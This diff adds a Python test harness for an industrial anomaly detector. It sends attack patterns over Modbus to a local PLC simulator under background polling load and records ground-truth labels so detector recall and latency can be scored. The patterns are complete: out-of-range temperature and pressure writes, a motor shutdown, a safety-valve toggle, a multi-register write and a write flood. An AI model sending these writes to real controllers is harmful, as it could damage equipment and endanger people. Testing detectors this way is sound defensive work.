@@ -0,0 +1,230 @@
+#!/usr/bin/env python3
+"""
+ATTACK SCRIPT #2: Attack Scenarios Under Load
+Interleaves attack patterns with background HMI polling at a target rate
+against the local PLC simulator, and records ground-truth labels (JSON Lines)
+so detector recall and alert latency can be scored at each rate
+"""
+
+from pymodbus.client import AsyncModbusTcpClient
+from pymodbus.exceptions import ModbusException
+import argparse
+import asyncio
+import json
+import logging
+import random
+import sys
+import time
+
+logging.basicConfig(level=logging.INFO)
+log = logging.getLogger(__name__)
+
+# Writes per write-flood burst (detect_anomalies.py --rate-window flags >2 writes/s)
+FLOOD_WRITES = 20
+
+# Pattern -> steps of (function code, address, values, alerts the detector should raise).
+# Alerts are (anomaly type, register name from the default register map, or the
+# register address for per-register write floods).
+PATTERNS = {
+    'temperature': [
+        (6, 0, [9999], [('OUT_OF_RANGE_WRITE', 'Temperature')]),
+    ],
+    'pressure': [
+        (6, 1, [5000], [('OUT_OF_RANGE_WRITE', 'Pressure')]),
+    ],
+    'shutdown': [
+        (6, 2, [0], [('MOTOR_SHUTDOWN', 'Motor Speed')]),
+    ],
+    'valve_toggle': [
+        (6, 3, [1], [('UNAUTHORIZED_VALVE_OPERATION', 'Safety Valve')]),
+        (6, 3, [0], []),
+    ],
+    'fc16': [
+        (16, 0, [9999, 5000, 0, 1], [('OUT_OF_RANGE_WRITE', 'Temperature'),
+                                     ('OUT_OF_RANGE_WRITE', 'Pressure'),
+                                     ('MOTOR_SHUTDOWN', 'Motor Speed'),
+                                     ('UNAUTHORIZED_VALVE_OPERATION', 'Safety Valve')]),
+    ],
+    # In-range values: only the write rate is malicious
+    'write_flood': [
+        (6, 2, [1500], [('WRITE_FLOOD', None), ('REGISTER_WRITE_FLOOD', 2)]),
+    ] + [(6, 2, [1500], [])] * (FLOOD_WRITES - 1),
+}
+
+
+class AttackScenario:
+    """Background polling plus randomly timed attack patterns for one run"""
+
+    def __init__(self, plc_host='127.0.0.1', plc_port=502, unit_id=1, connections=50, timeout=3.0):
+        self.plc_host = plc_host
+        self.plc_port = plc_port
+        self.unit_id = unit_id
+        self.connections = connections
+        self.timeout = timeout
+        self.pollers = []
+        self.attacker = None
+        self.labels = []
+        self.polls = self.poll_errors = self.late_polls = 0
+
+    def _client(self):
+        return AsyncModbusTcpClient(self.plc_host, port=self.plc_port, timeout=self.timeout, retries=0)
+
+    async def connect(self):
+        self.pollers = [self._client() for _ in range(self.connections)]
+        self.attacker = self._client()
+        results = await asyncio.gather(*(c.connect() for c in self.pollers + [self.attacker]))
+        if not all(results):
+            raise ConnectionError(f"Could not connect to PLC at {self.plc_host}:{self.plc_port}")
+        log.info(f"🔴 ATTACKER CONNECTED to PLC ({self.connections} background connections)")
+
+    def close(self):
+        for client in self.pollers + [self.attacker]:
+            if client is not None:
+                client.close()
+
+    async def _poll(self, client, interval, end):
+        loop = asyncio.get_running_loop()
+        deadline = loop.time() + random.uniform(0, interval)
+        while deadline < end:
+            delay = deadline - loop.time()
+            if delay > 0:
+                await asyncio.sleep(delay)
+            elif -delay > interval:
+                missed = int(-delay / interval)
+                self.late_polls += missed
+                deadline += missed * interval
+            deadline += interval
+            try:
+                result = await client.read_holding_registers(0, count=4, device_id=self.unit_id)
+                if result.isError():
+                    self.poll_errors += 1
+                else:
+                    self.polls += 1
+            except ModbusException:
+                self.poll_errors += 1
+
+    async def _attack(self, name, rate_label):
+        label = {
+            'id': len(self.labels),
+            'pattern': name,
+            'background_rate': rate_label,
+            'unit_id': self.unit_id,
+            'writes': [],
+            'expected_alerts': [],
+            'acknowledged': True,
+        }
+        for func_code, address, values, alerts in PATTERNS[name]:
+            sent = time.time()
+            try:
+                if func_code == 16:
+                    result = await self.attacker.write_registers(address, values, device_id=self.unit_id)
+                else:
+                    result = await self.attacker.write_register(address, values[0], device_id=self.unit_id)
+                ok = not result.isError()
+            except ModbusException:
+                ok = False
+            label['acknowledged'] = label['acknowledged'] and ok
+            label['writes'].append({'time': sent, 'func_code': func_code, 'address': address,
+                                    'values': values})
+            label['expected_alerts'].extend({'type': kind, 'register': register, 'sent': sent}
+                                            for kind, register in alerts)
+        self.labels.append(label)
+
+    async def _attacks(self, patterns, weights, attack_rate, end, rate_label):
+        loop = asyncio.get_running_loop()
+        # Poisson arrivals, so attacks do not line up with the poll schedule
+        next_attack = loop.time() + random.expovariate(attack_rate)
+        while next_attack < end:
+            delay = next_attack - loop.time()
+            if delay > 0:
+                await asyncio.sleep(delay)
+            await self._attack(random.choices(patterns, weights)[0], rate_label)
+            next_attack = max(next_attack, loop.time()) + random.expovariate(attack_rate)
+
+    async def run(self, background_rate, attack_rate, patterns, weights, duration):
+        """One run at a background rate; returns its summary"""
+        self.polls = self.poll_errors = self.late_polls = 0
+        first_label = len(self.labels)
+        end = asyncio.get_running_loop().time() + duration
+        interval = len(self.pollers) / background_rate
+        started = time.perf_counter()
+        await asyncio.gather(
+            self._attacks(patterns, weights, attack_rate, end, background_rate),
+            *(self._poll(client, interval, end) for client in self.pollers))
+        elapsed = time.perf_counter() - started
+        attacks = self.labels[first_label:]
+        return {
+            'background_rate': background_rate,
+            'achieved_rate': self.polls / elapsed,
+            'poll_errors': self.poll_errors,
+            'late_polls': self.late_polls,
+            'attacks': len(attacks),
+            'expected_alerts': sum(len(label['expected_alerts']) for label in attacks),
+        }
+
+
+def _weighted_patterns(text):
+    """'temperature,fc16:3' -> (['temperature', 'fc16'], [1.0, 3.0])"""
+    names, weights = [], []
+    for part in text.split(','):
+        name, _, weight = part.partition(':')
+        if name not in PATTERNS:
+            raise argparse.ArgumentTypeError(f"unknown pattern: {name} (choose from {', '.join(PATTERNS)})")
+        names.append(name)
+        weights.append(float(weight) if weight else 1.0)
+    return names, weights
+
+
+async def run_scenarios(args):
+    patterns, weights = args.patterns
+    scenario = AttackScenario(args.host, args.port, args.unit_id, args.connections, args.timeout)
+    await scenario.connect()
+    log.info("=" * 70)
+    log.info(f"🔴 STARTING ATTACK SCENARIOS: {', '.join(patterns)}")
+    log.info("=" * 70)
+    try:
+        for rate in args.rates:
+            summary = await scenario.run(rate, args.attack_rate, patterns, weights, args.duration)
+            log.info(f"⚠️  Background {summary['background_rate']:.0f} req/s "
+                     f"(achieved {summary['achieved_rate']:.0f}, {summary['late_polls']} late, "
+                     f"{summary['poll_errors']} errors): {summary['attacks']} attacks, "
+                     f"{summary['expected_alerts']} expected alerts")
+    finally:
+        scenario.close()
+
+    with open(args.labels, 'w') as f:
+        for label in scenario.labels:
+            f.write(json.dumps(label) + '\n')
+    log.info("=" * 70)
+    log.info(f"🔴 ATTACK SCENARIOS COMPLETE - {len(scenario.labels)} labels written to {args.labels}")
+    log.info("=" * 70)
+
+
+def main():
+    parser = argparse.ArgumentParser(
+        description="Interleave attack patterns with background load and record ground truth")
+    parser.add_argument('--host', default='127.0.0.1')
+    parser.add_argument('--port', type=int, default=502)
+    parser.add_argument('--unit-id', type=int, default=1)
+    parser.add_argument('--patterns', type=_weighted_patterns, default=_weighted_patterns(','.join(PATTERNS)),
+                        help=f"comma-separated patterns with optional :weight (from: {', '.join(PATTERNS)})")
+    parser.add_argument('--rates', type=lambda t: [float(r) for r in t.split(',')], default=[100.0],
+                        help="comma-separated background poll rates (req/s), one run each")
+    parser.add_argument('--attack-rate', type=float, default=1.0, help="attack patterns per second")
+    parser.add_argument('--connections', type=int, default=50, help="background polling connections")
+    parser.add_argument('--duration', type=float, default=30.0, help="seconds per rate")
+    parser.add_argument('--timeout', type=float, default=3.0)
+    parser.add_argument('--labels', default='labels.jsonl', help="ground-truth labels file (JSON Lines)")
+    args = parser.parse_args()
+
+    try:
+        asyncio.run(run_scenarios(args))
+    except KeyboardInterrupt:
+        pass
+    except (ConnectionError, OSError) as e:
+        log.error(f"Attack scenarios failed: {e}")
+        sys.exit(1)
+
+
+if __name__ == "__main__":
+    main()